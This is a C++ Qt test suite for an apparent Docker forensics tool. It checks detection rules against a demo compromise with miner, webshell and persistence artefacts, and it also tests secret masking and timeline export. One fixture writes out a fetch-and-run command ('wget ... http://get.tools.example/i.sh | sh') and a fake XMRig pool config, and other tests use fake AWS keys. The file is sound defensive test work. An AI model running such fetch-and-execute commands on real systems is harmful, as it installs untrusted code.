// The findings of DETECTIONS.md end to end: the demo case made with a real dockerd (every
// artefact its README lists is found with the right rule ID and points at its proof, secrets
// never appear unmasked, the same evidence gives the same JSON), the checklist's logic gaps
// (0:0 is root, restart always, every seccomp-off form) on hand-built inspect documents, the
// secret masking, the timeline export, and images built in the test that must stay quiet.

#include "analysis/analyzer.h"
#include "checks/securitychecklist.h"
#include "report/analysisjson.h"
#include "report/timelineexport.h"
#include "rules/ruleset.h"
#include "tarbuilder.h"
#include "testpaths.h"

#include <QFile>
#include <QFileInfo>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

#include <algorithm>

using namespace dockscope;
using namespace dockscope::test;
using namespace Qt::StringLiterals;

namespace {

QStringList demoEvidence()
{
    return {data(u"demo/demo-dataroot.tar.gz"_s), data(u"demo/demo-image.tar"_s),
            data(u"demo/demo-export.tar"_s), data(u"demo/demo-inspect.json"_s)};
}

const Finding *find(const Analysis &a, const QString &rule, const QString &path = {})
{
    for (const Finding &f : a.findings) {
        if (f.rule == rule && (path.isEmpty() || f.path == path)) {
            return &f;
        }
    }
    return nullptr;
}

std::shared_ptr<const RuleSet> rules()
{
    static const std::shared_ptr<const RuleSet> set = RuleSet::load({});
    return set;
}

const ChecklistItem *row(const std::vector<ChecklistItem> &list, const QString &id)
{
    for (const ChecklistItem &i : list) {
        if (i.id == id) {
            return &i;
        }
    }
    return nullptr;
}

// A container whose inspect document is `hostConfig` and `config` (JSON object bodies).
Container inspected(const QString &config, const QString &hostConfig, const QString &extra = {})
{
    Container c;
    c.id = QString(64, u'a');
    c.name = u"probe"_s;
    c.inspect = QStringLiteral("{\"Id\":\"%1\",\"Config\":{%2},\"HostConfig\":{%3}%4}")
                    .arg(c.id, config, hostConfig, extra)
                    .toUtf8();
    c.evidenceFile = u"probe-inspect.json"_s;
    return c;
}

QString status(const std::vector<ChecklistItem> &list, const QString &id)
{
    const ChecklistItem *i = row(list, id);
    return i ? ChecklistItem::statusName(i->status) : u"missing"_s;
}

int runCli(const QStringList &args, QByteArray *out = nullptr, QByteArray *err = nullptr)
{
    QProcess p;
    p.start(QStringLiteral(DOCKSCOPE_CLI), args);
    p.waitForFinished(120000);
    if (out) {
        *out = p.readAllStandardOutput();
    }
    if (err) {
        *err = p.readAllStandardError();
    }
    return p.exitStatus() == QProcess::NormalExit ? p.exitCode() : -1;
}

} // namespace

class TestDetections : public QObject
{
    Q_OBJECT

private:
    Analysis m_demo;

private Q_SLOTS:
    void initTestCase()
    {
        m_demo = Analyzer::run(demoEvidence(), {});
        QVERIFY(m_demo.anyEvidenceRead());
        QVERIFY(!m_demo.findings.empty());
    }

    void demoRecall_data()
    {
        QTest::addColumn<QString>("rule");
        QTest::addColumn<QString>("path");
        // Runtime configuration (demo README, "Runtime configuration").
        for (const char *id : {"RT-01", "RT-03", "RT-04", "RT-05", "RT-09", "RT-10", "RT-11", "RT-13",
                               "RT-14", "RT-15", "RT-16", "RT-17", "RT-18", "RT-19", "RT-20"}) {
            QTest::newRow(id) << QString::fromLatin1(id) << QString();
        }
        // Image.
        for (const char *id : {"IMG-02", "IMG-03", "IMG-05", "IMG-07", "IMG-08", "IMG-09", "IMG-10"}) {
            QTest::newRow(id) << QString::fromLatin1(id) << QString();
        }
        const std::vector<std::pair<const char *, const char *>> files{
            {"FS-07", "/usr/local/bin/helper"},      // setuid BusyBox added by layer 5
            {"FS-01", "/tmp/.X11-unix/.x/xmrig"},
            {"FS-01", "/tmp/.sh"},
            {"FS-01", "/tmp/update.sh"},
            {"FS-01", "/tmp/.X11-unix/.x/grab.sh"},
            {"FS-01", "/tmp/.X11-unix/.x/esc.sh"},
            {"FS-01", "/srv/www/cgi-bin/up.cgi"},
            {"FS-02", "/tmp/.X11-unix/.x/xmrig"},
            {"FS-02", "/tmp/.X11-unix/.x/config.json"},
            {"FS-03", "/etc/ld.so.preload"},
            {"FS-04", "/var/spool/cron/crontabs/root"},
            {"FS-04", "/etc/cron.d/sysupdate"},
            {"FS-05", "/root/.ssh/authorized_keys"},
            {"FS-06", "/etc/passwd"},
            {"FS-06", "/etc/shadow"},
            {"FS-07", "/tmp/.sh"},
            {"FS-08", "/bin/ps"},
            {"FS-09", "/srv/www/cgi-bin/up.cgi"},
            {"FS-09", "/srv/www/.cache.php"},
            {"FS-10", "/etc/profile"},
            {"FS-11", "/tmp/cgrp"},
            {"FS-12", "/root/.aws/credentials"},
            {"FS-12", "/tmp/.X11-unix/.x/etc.tgz"},
            {"FS-13", "/var/log/httpd-access.log.1"},
            {"FS-13", "/root/.bash_history"},
            {"FS-14", "/tmp/.X11-unix/.x"},
            {"FS-14", "/tmp/.sh"},
            {"FS-16", "/etc/hosts"},
            {"FC-01", "/tmp/update.sh"},
            {"FC-02", "/tmp/.X11-unix/.x/config.json"},
            {"FC-03", "/srv/www/cgi-bin/up.cgi"},
            {"FC-03", "/srv/www/.cache.php"},
            {"FC-04", "/tmp/.X11-unix/.x/esc.sh"},
            {"FC-05", "/tmp/update.sh"},
            {"FC-05", "/var/spool/cron/crontabs/root"},
            {"FC-06", "/root/.ash_history"},
            {"FC-07", "/root/.aws/credentials"},
            {"FC-07", "/tmp/.X11-unix/.x/.loot"},
            {"FC-07", "/srv/www/.env"},
            {"FC-07", "/etc/httpd.conf"},
            {"FC-08", "/tmp/.X11-unix/.x/grab.sh"},
            {"FC-09", "/usr/lib/libprocesshider.so"},
            {"FC-10", "/tmp/.X11-unix/.x/xmrig"},
            {"FC-10", "/tmp/.sh"},
            {"LOG-01", "/srv/www/cgi-bin/up.cgi"},
            {"LOG-01", "/srv/www/.cache.php"},
            {"LOG-12", "/var/log/httpd-access.log.1"},
        };
        for (const auto &[rule, path] : files) {
            QTest::newRow(qPrintable(QStringLiteral("%1 %2").arg(QLatin1String(rule), QLatin1String(path))))
                << QString::fromLatin1(rule) << QString::fromLatin1(path);
        }
        for (const char *id : {"LOG-02", "LOG-03", "LOG-04", "LOG-05", "LOG-06", "LOG-07", "LOG-08",
                               "LOG-09", "LOG-10", "LOG-11"}) {
            QTest::newRow(id) << QString::fromLatin1(id) << QString();
        }
    }

    void demoRecall()
    {
        QFETCH(QString, rule);
        QFETCH(QString, path);
        const Finding *f = find(m_demo, rule, path);
        QVERIFY2(f, qPrintable(u"not found: "_s + rule + u' ' + path));
        // Every finding points at its proof.
        QVERIFY(!f->evidenceFile.isEmpty());
        QVERIFY(!f->title.isEmpty());
        QVERIFY(!f->rationale.isEmpty());
        QVERIFY(!f->evidence.isEmpty());
        QVERIFY(!f->source.isEmpty() || !f->path.isEmpty());
        QVERIFY(f->container.isEmpty() || f->container.size() == 64);
        if (rule.startsWith(u"LOG") && f->line >= 0) {
            QVERIFY(!f->timestamp.isEmpty());
        }
    }

    void everyFindingHasProof()
    {
        for (const Finding &f : m_demo.findings) {
            QVERIFY2(!f.rule.isEmpty() && !f.evidenceFile.isEmpty(), qPrintable(f.id));
            QVERIFY2(!f.path.isEmpty() || !f.source.isEmpty(), qPrintable(f.rule + u' ' + f.id));
            if (!f.path.isEmpty() && f.layer >= 0 && f.rule.startsWith(u"FC")) {
                QVERIFY2(f.sha256.startsWith(u"sha256:"), qPrintable(f.rule + u' ' + f.path));
            }
        }
    }

    void rankedAndCorrelated()
    {
        // Most severe first.
        for (std::size_t i = 1; i < m_demo.findings.size(); ++i) {
            QVERIFY(int(m_demo.findings[i - 1].severity) <= int(m_demo.findings[i].severity));
        }
        // RT-01 with escape tooling is an escape path; the webshell was requested.
        const Finding *socket = find(m_demo, u"RT-01"_s);
        QVERIFY(socket);
        QCOMPARE(socket->severity, Severity::Critical);
        QVERIFY(!socket->escalation.isEmpty());
        QVERIFY(!socket->correlated.isEmpty());
        const Finding *shell = find(m_demo, u"FS-09"_s, u"/srv/www/cgi-bin/up.cgi"_s);
        QVERIFY(shell);
        QVERIFY(!shell->escalation.isEmpty());
        // No duplicate: one finding per rule and place.
        QSet<QString> seen;
        for (const Finding &f : m_demo.findings) {
            if (!f.path.isEmpty() && !f.rule.startsWith(u"LOG")) {
                const QString key = f.rule + u'|' + f.container + u'|' + f.layerDigest + u'|' + f.path;
                QVERIFY2(!seen.contains(key), qPrintable(key));
                seen.insert(key);
            }
        }
    }

    void secretsNeverInTheClear()
    {
        const QByteArray json = AnalysisJson::write(m_demo, {});
        for (const char *secret : {"AKIADSDEMO7Q2XK4FAKE", "wJdSdEmO/FaKeSeCrEt+DoCkScOpE/Xq7Lp2Nz8R",
                                   "Wsh0p-Pr0d-2024!fake"}) {
            // The findings mask them; the image config itself is evidence and keeps them.
            for (const Finding &f : m_demo.findings) {
                QVERIFY2(!f.evidence.contains(QLatin1String(secret)), qPrintable(f.rule + u": "_s + f.evidence));
            }
        }
        const QJsonArray findings = QJsonDocument::fromJson(json).object().value(u"findings"_s).toArray();
        QVERIFY(!findings.isEmpty());
        for (const auto &f : findings) {
            QVERIFY(!f.toObject().value(u"evidence"_s).toString().contains(u"AKIADSDEMO7Q2XK4FAKE"_s));
        }
    }

    void secretMaskingKeepsEveryValueHidden()
    {
        const QByteArray line = "export AWS_ACCESS_KEY_ID=AKIAQ3ZP7Q2XK4DSDEMO AWS_SECRET_ACCESS_KEY="
                                "Zt7Lp2Nz8RwJdSdEmOFaKeSeCrEtDoCkScOpEXq7\n";
        const auto hits = rules()->secrets().scan("# cfg\n" + line, u"root/.profile"_s, false);
        QVERIFY(!hits.empty());
        for (const SecretHit &h : hits) {
            QCOMPARE(h.line, 2);
            QVERIFY2(!h.masked.contains(u"Q3ZP7Q2XK4DSDEMO"_s), qPrintable(h.masked));
            QVERIFY2(!h.masked.contains(u"Zt7Lp2Nz8RwJdSdEmOFaKe"_s), qPrintable(h.masked));
            QVERIFY(h.offset >= 6);
        }
        QCOMPARE(SecretRules::mask(u"AKIADSDEMO7Q2XK4FAKE"_s), u"AKIA****************"_s);
        QCOMPARE(SecretRules::mask(u"abcd"_s), u"ab**"_s);
    }

    void deterministic()
    {
        const Analysis again = Analyzer::run(demoEvidence(), {});
        QCOMPARE(AnalysisJson::write(again, {}), AnalysisJson::write(m_demo, {}));
    }

    void timelineSortedWithEverySource()
    {
        QVERIFY(!m_demo.timeline.empty());
        QSet<QString> sources;
        for (std::size_t i = 0; i < m_demo.timeline.size(); ++i) {
            const TimelineEvent &e = m_demo.timeline[i];
            QVERIFY(!e.datetime.isEmpty());
            QVERIFY(!e.timestampDesc.isEmpty());
            QVERIFY(!e.message.isEmpty());
            sources.insert(e.source);
            if (i > 0) {
                QVERIFY2(m_demo.timeline[i - 1].datetime <= e.datetime, qPrintable(e.datetime));
            }
        }
        for (const QString &s : {u"image history"_s, u"container layer"_s, u"finding"_s}) {
            QVERIFY2(sources.contains(s), qPrintable(s + u" in " + QStringList(sources.values()).join(u", ")));
        }
        const bool lifecycle = std::any_of(m_demo.timeline.begin(), m_demo.timeline.end(), [](const TimelineEvent &e) {
            return e.timestampDesc.contains(u"Started"_s);
        });
        QVERIFY(lifecycle);
    }

    void timelineExportForms()
    {
        const auto events = TimelineExport::events(m_demo, true);
        QVERIFY(events.size() > m_demo.timeline.size()); // image file times added
        const QByteArray csv = TimelineExport::write(events, TimelineExport::Format::Csv);
        QVERIFY(csv.startsWith("message,datetime,timestamp_desc,timestamp,"));
        QCOMPARE(csv.count("\r\n"), qsizetype(events.size() + 1));
        const QByteArray jsonl = TimelineExport::write(events, TimelineExport::Format::Jsonl);
        const QList<QByteArray> lines = jsonl.trimmed().split('\n');
        QCOMPARE(lines.size(), qsizetype(events.size()));
        const QJsonObject first = QJsonDocument::fromJson(lines.first()).object();
        for (const char *key : {"message", "datetime", "timestamp_desc", "timestamp", "source"}) {
            QVERIFY2(first.contains(QLatin1String(key)), key);
        }
        QVERIFY(first.value(u"timestamp"_s).toDouble() > 1.0e15); // microseconds since 1970
    }

    // ---- the checklist's logic gaps (DETECTIONS.md) ---------------------------------------

    void checklistRootForms_data()
    {
        QTest::addColumn<QString>("user");
        QTest::addColumn<bool>("root");
        QTest::newRow("empty") << QString() << true;
        QTest::newRow("root") << u"root"_s << true;
        QTest::newRow("0") << u"0"_s << true;
        QTest::newRow("0:0") << u"0:0"_s << true;
        QTest::newRow("root:root") << u"root:root"_s << true;
        QTest::newRow("1000:1000") << u"1000:1000"_s << false;
        QTest::newRow("app") << u"app"_s << false;
    }

    void checklistRootForms()
    {
        QFETCH(QString, user);
        QFETCH(bool, root);
        const Container c = inspected(QStringLiteral("\"User\":\"%1\"").arg(user), u"\"Privileged\":false"_s);
        const auto list = SecurityChecklist::evaluate(c, nullptr, *rules());
        const QString s = status(list, u"RT-15"_s);
        if (root) {
            QVERIFY2(s == u"fail" || s == u"warn", qPrintable(user + u" → " + s));
        } else {
            QCOMPARE(s, u"pass"_s);
        }
        QVERIFY(row(list, u"RT-15"_s)->source.contains(u"Config.User"_s));
    }

    void checklistSeccompOff_data()
    {
        QTest::addColumn<QString>("hostConfig");
        QTest::addColumn<QString>("extra");
        QTest::newRow("seccomp=unconfined") << u"\"SecurityOpt\":[\"seccomp=unconfined\"]"_s << QString();
        QTest::newRow("seccomp:unconfined") << u"\"SecurityOpt\":[\"seccomp:unconfined\"]"_s << QString();
        QTest::newRow("seccomp=unconfined upper") << u"\"SecurityOpt\":[\"seccomp=Unconfined\"]"_s << QString();
        QTest::newRow("privileged") << u"\"Privileged\":true"_s << QString();
        QTest::newRow("profile field") << u"\"SecurityOpt\":null"_s << u",\"SeccompProfile\":\"unconfined\""_s;
    }

    void checklistSeccompOff()
    {
        QFETCH(QString, hostConfig);
        QFETCH(QString, extra);
        const Container c = inspected(u"\"User\":\"1000\""_s, hostConfig, extra);
        const auto list = SecurityChecklist::evaluate(c, nullptr, *rules());
        QCOMPARE(status(list, u"RT-09"_s), u"fail"_s);
    }

    void checklistRestartAlways()
    {
        const Container c = inspected(u"\"User\":\"1000\""_s,
                                      u"\"RestartPolicy\":{\"Name\":\"always\",\"MaximumRetryCount\":0}"_s);
        const auto list = SecurityChecklist::evaluate(c, nullptr, *rules());
        const QString s = status(list, u"RT-20"_s);
        QVERIFY2(s == u"warn" || s == u"fail", qPrintable(s));
        QVERIFY(row(list, u"RT-20"_s)->value.contains(u"always"_s));
    }

    void checklistHardenedContainerPasses()
    {
        const Container c = inspected(
            u"\"User\":\"1000:1000\",\"Healthcheck\":{\"Test\":[\"CMD\",\"true\"]}"_s,
            u"\"Privileged\":false,\"CapDrop\":[\"ALL\"],\"CapAdd\":null,\"SecurityOpt\":[\"no-new-privileges:true\"],"
            "\"ReadonlyRootfs\":true,\"PidMode\":\"\",\"IpcMode\":\"private\",\"NetworkMode\":\"bridge\","
            "\"UTSMode\":\"\",\"UsernsMode\":\"\",\"CgroupnsMode\":\"private\",\"Memory\":268435456,"
            "\"NanoCpus\":500000000,\"PidsLimit\":100,\"RestartPolicy\":{\"Name\":\"on-failure\",\"MaximumRetryCount\":3},"
            "\"Binds\":null,\"PortBindings\":{},\"Devices\":[],"
            "\"MaskedPaths\":[\"/proc/kcore\"],\"ReadonlyPaths\":[\"/proc/sys\"],"
            "\"LogConfig\":{\"Type\":\"json-file\",\"Config\":{}}"_s,
            u",\"AppArmorProfile\":\"docker-default\""_s);
        const auto list = SecurityChecklist::evaluate(c, nullptr, *rules());
        QCOMPARE(list.size(), std::size_t(20));
        for (const char *id : {"RT-01", "RT-02", "RT-04", "RT-05", "RT-09", "RT-15", "RT-18", "RT-19"}) {
            QCOMPARE(status(list, QString::fromLatin1(id)), u"pass"_s);
        }
        for (const ChecklistItem &i : list) {
            QVERIFY2(i.status != ChecklistItem::Status::Fail, qPrintable(i.id + u": " + i.value));
        }
    }

    // ---- quiet images ------------------------------------------------------------------------

    void cleanImageIsQuiet()
    {
        const QByteArray base = TarBuilder()
                                    .dir("bin")
                                    .file("bin/busybox", QByteArray("\x7f" "ELF\x02\x01\x01", 7) + QByteArray(4000, '\0'), 0755)
                                    .symlink("bin/sh", "busybox")
                                    .dir("etc")
                                    .file("etc/passwd", "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n")
                                    .file("etc/group", "root:x:0:\napp:x:1000:\n")
                                    .file("etc/hostname", "localhost\n")
                                    .dir("tmp", 01777)
                                    .dir("home/app", 0755, 1000, 1000)
                                    .bytes();
        const QByteArray app = TarBuilder()
                                   .dir("srv/www")
                                   .file("srv/www/index.html", "<html><body>hello</body></html>\n")
                                   .bytes();
        ImageArchive archive;
        archive.layers = {base, app};
        archive.config = ImageArchive::configFor(archive.layers,
                                                 u",\"Healthcheck\":{\"Test\":[\"CMD\",\"true\"]}"_s);
        archive.repoTags = {u"example/site:1.0"_s};
        const QString path = writeTemp(archive.bytes(), u"clean.tar"_s);
        const Analysis a = Analyzer::run({path}, {});
        QVERIFY(a.anyEvidenceRead());
        for (const Finding &f : a.findings) {
            QVERIFY2(int(f.severity) >= int(Severity::Low),
                     qPrintable(f.rule + u' ' + severityName(f.severity) + u": " + f.evidence));
        }
    }

    // The "unmodified Debian base image", with what is offline here: the unmodified
    // Alpine base images of Trivy's test data (../shared/fixtures/peers/trivy), real
    // `docker save` archives. Nothing above low but the configuration fact that they run as
    // root (IMG-07), and no file, content or log finding at all.
    void unmodifiedDistroBaseIsQuiet_data()
    {
        QTest::addColumn<QString>("archive");
        QTest::addColumn<QString>("tag");
        QTest::newRow("alpine:3.11") << u"trivy/alpine-311.tar.gz"_s << u"alpine:3.11"_s;
        QTest::newRow("alpine:3.10") << u"trivy/alpine-310.tar.gz"_s << u"alpine:3.10"_s;
    }

    void unmodifiedDistroBaseIsQuiet()
    {
        QFETCH(QString, archive);
        QFETCH(QString, tag);
        if (!QFileInfo::exists(peer(archive))) {
            QSKIP("peer fixtures not found (../shared/fixtures/peers)");
        }
        const Analysis a = Analyzer::run({peer(archive)}, {});
        QVERIFY(a.anyEvidenceRead());
        QCOMPARE(a.images.size(), std::size_t(1));
        QCOMPARE(a.images.front().repoTags, QStringList{tag});
        QVERIFY(a.images.front().tree && a.images.front().tree->size() > 400); // the whole base was read
        const QStringList configurationFacts{u"IMG-07"_s};
        for (const Finding &f : a.findings) {
            QVERIFY2(int(f.severity) >= int(Severity::Low) || configurationFacts.contains(f.rule),
                     qPrintable(f.rule + u' ' + severityName(f.severity) + u": " + f.evidence));
            QVERIFY2(!f.rule.startsWith(u"FS") && !f.rule.startsWith(u"FC") && !f.rule.startsWith(u"LOG"),
                     qPrintable(f.rule + u' ' + f.path + u": " + f.evidence));
        }
        const Finding *root = find(a, u"IMG-07"_s);
        QVERIFY(root);
        QCOMPARE(root->severity, Severity::Medium);
        QCOMPARE(root->evidence, u"User: \"\""_s);
    }

    void supplyChainLayerIsFound()
    {
        const QByteArray base = TarBuilder().dir("etc").file("etc/passwd", "root:x:0:0::/root:/bin/sh\n").bytes();
        const QByteArray miner = TarBuilder()
                                     .dir("opt/.cache")
                                     .file("opt/.cache/kworkerd", QByteArray("\x7f" "ELF\x02\x01\x01", 7)
                                               + QByteArray(2000, '\0') + "XMRig/6.21.0 stratum+tcp://%s randomx",
                                           0755)
                                     .file("opt/.cache/config.json",
                                           "{\"autosave\":true,\"donate-level\":0,\"pools\":[{\"url\":"
                                           "\"stratum+tcp://pool.example.invalid:3333\",\"user\":\"41x\",\"algo\":\"rx/0\"}]}")
                                     .bytes();
        ImageArchive archive;
        archive.layers = {base, miner};
        QByteArray config = ImageArchive::configFor(archive.layers);
        config.replace("\"layer 1\"", "\"/bin/sh -c wget -q -O- http://get.tools.example/i.sh | sh\"");
        archive.config = config;
        archive.repoTags = {u"example/tool:2"_s};
        const QString path = writeTemp(archive.bytes(), u"supply.tar"_s);
        const Analysis a = Analyzer::run({path}, {});
        QVERIFY(find(a, u"IMG-03"_s));
        const Finding *bin = find(a, u"FS-02"_s, u"/opt/.cache/kworkerd"_s);
        QVERIFY(bin);
        QCOMPARE(bin->layer, 1);
        QVERIFY(!bin->layerDigest.isEmpty());
        QVERIFY(find(a, u"FC-02"_s, u"/opt/.cache/config.json"_s));
    }

    // ---- rule options ------------------------------------------------------------------------

    void examinerRulesAndLimits()
    {
        QTemporaryDir dir;
        QFile yar(dir.filePath(u"mine.yar"_s));
        QVERIFY(yar.open(QIODevice::WriteOnly));
        yar.write("rule examiner_marker { meta: author = \"examiner\" strings: $a = \"CASE-4711-MARKER\" condition: $a }\n");
        yar.close();
        const QByteArray layer = TarBuilder().file("srv/notes.txt", "hello CASE-4711-MARKER world\n").bytes();
        ImageArchive archive;
        archive.layers = {layer};
        archive.config = ImageArchive::configFor(archive.layers);
        const QString path = writeTemp(archive.bytes(), u"marker.tar"_s);

        AnalyzeOptions options;
        options.ruleDirs = {dir.path()};
        const Analysis with = Analyzer::run({path}, options);
        QVERIFY(with.rules.files.join(u' ').contains(u"mine.yar"_s));
        const auto hit = std::find_if(with.findings.begin(), with.findings.end(), [](const Finding &f) {
            return f.detail.contains(u"examiner_marker"_s);
        });
        QVERIFY(hit != with.findings.end());
        QCOMPARE(hit->path, u"/srv/notes.txt"_s);
        QVERIFY(hit->ruleSource.contains(u"mine.yar"_s));

        options.maxScanBytes = 8; // smaller than the file: not scanned
        const Analysis limited = Analyzer::run({path}, options);
        QVERIFY(std::none_of(limited.findings.begin(), limited.findings.end(), [](const Finding &f) {
            return f.detail.contains(u"examiner_marker"_s);
        }));
        QCOMPARE(limited.rules.maxScanBytes, qint64(8));

        options.maxScanBytes = RuleSet::DefaultMaxScanBytes;
        options.contentRules = false;
        const Analysis off = Analyzer::run({path}, options);
        QVERIFY(!off.rules.contentRules);
        QVERIFY(std::none_of(off.findings.begin(), off.findings.end(), [](const Finding &f) {
            return f.rule.startsWith(u"FC");
        }));

        QFile bad(dir.filePath(u"broken.yar"_s));
        QVERIFY(bad.open(QIODevice::WriteOnly));
        bad.write("rule broken { condition: \n");
        bad.close();
        options.contentRules = true;
        const Analysis broken = Analyzer::run({path}, options);
        QVERIFY(!broken.rules.diagnostics.empty()); // named, and the other rules still ran
        QVERIFY(std::any_of(broken.findings.begin(), broken.findings.end(), [](const Finding &f) {
            return f.detail.contains(u"examiner_marker"_s);
        }));
    }

    void cliTimelineAndOptions()
    {
        QTemporaryDir dir;
        const QString csv = dir.filePath(u"t.csv"_s);
        QCOMPARE(runCli({u"timeline"_s, u"--format"_s, u"csv"_s, u"-o"_s, csv, data(u"demo/demo-image.tar"_s)}), 0);
        QFile f(csv);
        QVERIFY(f.open(QIODevice::ReadOnly));
        const QByteArray text = f.readAll();
        QVERIFY(text.startsWith("message,datetime,timestamp_desc,timestamp,"));
        QVERIFY(text.contains("Image Layer Built"));
        QVERIFY(text.contains("Content Modification Time"));

        QByteArray out;
        QCOMPARE(runCli({u"timeline"_s, u"--format"_s, u"jsonl"_s, u"--no-image-files"_s,
                         data(u"demo/demo-inspect.json"_s)}, &out), 0);
        const QList<QByteArray> lines = out.trimmed().split('\n');
        QVERIFY(!lines.isEmpty());
        for (const QByteArray &l : lines) {
            QVERIFY(QJsonDocument::fromJson(l).isObject());
        }
        QCOMPARE(runCli({u"timeline"_s, u"--format"_s, u"xml"_s, data(u"demo/demo-image.tar"_s)}), 2);
        QCOMPARE(runCli({u"analyze"_s, u"--max-scan-size"_s, u"lots"_s, data(u"demo/demo-image.tar"_s)}), 2);
        QCOMPARE(runCli({u"analyze"_s, u"--rules"_s, dir.filePath(u"nowhere"_s), data(u"demo/demo-image.tar"_s)}), 2);

        QCOMPARE(runCli({u"analyze"_s, u"--max-scan-size"_s, u"1M"_s, u"--json"_s, u"-"_s,
                         data(u"demo/demo-image.tar"_s)}, &out), 0);
        const QJsonObject doc = QJsonDocument::fromJson(out).object();
        QCOMPARE(doc.value(u"rules"_s).toObject().value(u"maxScanBytes"_s).toInteger(), 1 << 20);
        QVERIFY(!doc.value(u"findings"_s).toArray().isEmpty());
        QVERIFY(doc.contains(u"timeline"_s));
        const QJsonObject first = doc.value(u"findings"_s).toArray().first().toObject();
        for (const char *key : {"rule", "severity", "title", "rationale", "evidenceFile", "source", "category"}) {
            QVERIFY2(first.contains(QLatin1String(key)), key);
        }
    }
};

QTEST_GUILESS_MAIN(TestDetections)
#include "tst_detections.moc"
